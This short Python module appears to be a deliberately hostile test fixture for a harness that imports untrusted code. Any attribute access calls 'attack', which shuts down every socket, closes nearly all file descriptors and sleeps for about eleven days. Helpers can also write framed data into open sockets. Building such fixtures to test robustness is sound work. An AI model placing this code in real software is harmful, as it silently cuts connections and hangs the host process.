"""Closes every file it has, its connection too, and stays."""

import os
import stat
import struct


def sockets():
    found = []
    for number in range(256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                found.append(number)
        except OSError:
            pass
    return found


def write(data):
    for number in sockets():
        try:
            os.write(number, data)
        except OSError:
            pass


def framed(data):
    return struct.pack(">I", len(data)) + data


import socket
import time


def attack(*arguments, **keywords):
    for number in sockets():
        socket.socket(fileno=number).shutdown(socket.SHUT_RDWR)
    os.closerange(0, 4096)
    time.sleep(10**6)


def __getattr__(name):
    return attack
